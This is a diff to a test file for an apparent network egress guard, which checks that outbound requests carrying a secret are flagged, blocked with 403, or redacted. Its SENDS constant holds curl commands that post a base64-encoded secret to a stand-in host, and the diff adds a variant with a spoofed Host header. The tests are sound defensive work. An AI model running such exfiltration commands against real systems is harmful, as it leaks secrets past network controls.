@@ -32,10 +32,12 @@ guard:
 """
 SENDS = (
     f"printf {SECRET} | base64 | curl -s -o /dev/null -w '%{{http_code}} ' -d @-"
-    " http://shop.example/a; curl -s -o /dev/null -w '%{http_code} ' -d nothing"
+    " http://shop.example/a; curl -s -o /dev/null -w '%{http_code} ' -H 'Host: elsewhere.example'"
+    f" -d {SECRET} http://shop.example/a; curl -s -o /dev/null -w '%{{http_code}} ' -d nothing"
     f" http://shop.example/b; echo {SECRET}"
 )
-"""One request with the value encoded, one without it, and the value in the command's output."""
+"""One request with the value encoded, one with it that is refused anyway, one without it, and the
+value in the command's output."""
 
 
 def found(run: Path) -> list[dict[str, Any]]:
@@ -63,7 +65,7 @@ async def test_what_leaves_a_cell_is_flagged(
     policy = tmp_path / "policy.yaml"
     policy.write_text(POLICY % ("flag", "flag"))
     output, run = await say(policy, belljar.home)
-    assert output == f"200 200 {SECRET}\n".encode()
+    assert output == f"200 421 200 {SECRET}\n".encode()
     hits = found(run)
     assert {(hit["place"], hit["action"], hit["value"]) for hit in hits} >= {
         ("range", "flag", "codename"),
@@ -79,16 +81,17 @@ async def test_what_leaves_a_cell_is_flagged(
 @pytest.mark.parametrize("anyio_backend", ["asyncio"])
 @pytest.mark.anyio
 async def test_what_the_policy_blocks_does_not_pass(belljar: Belljar, tmp_path: Path) -> None:
-    """The request gets 403 and never reaches its stand-in, the one beside it passes, and the
-    output is without the value."""
+    """The requests get 403 and reach no stand-in, the one beside them passes, and the output is
+    without the value."""
     policy = tmp_path / "policy.yaml"
     policy.write_text(POLICY % ("block", "redact"))
     output, run = await say(policy, belljar.home)
-    assert output == b"403 200 [redacted]\n"
+    assert output == b"403 403 200 [redacted]\n"
     actions = {(hit["place"], hit["action"]) for hit in found(run)}
     assert {("range", "block"), ("output", "redact")} <= actions
     answers = [e.data for e in read_events(run) if e.kind is Kind.NETWORK_HTTP_ANSWERED]
     assert [(answer["status"], answer.get("reason")) for answer in answers] == [
+        (403, "blocked by the guard"),
         (403, "blocked by the guard"),
         (200, None),
     ]
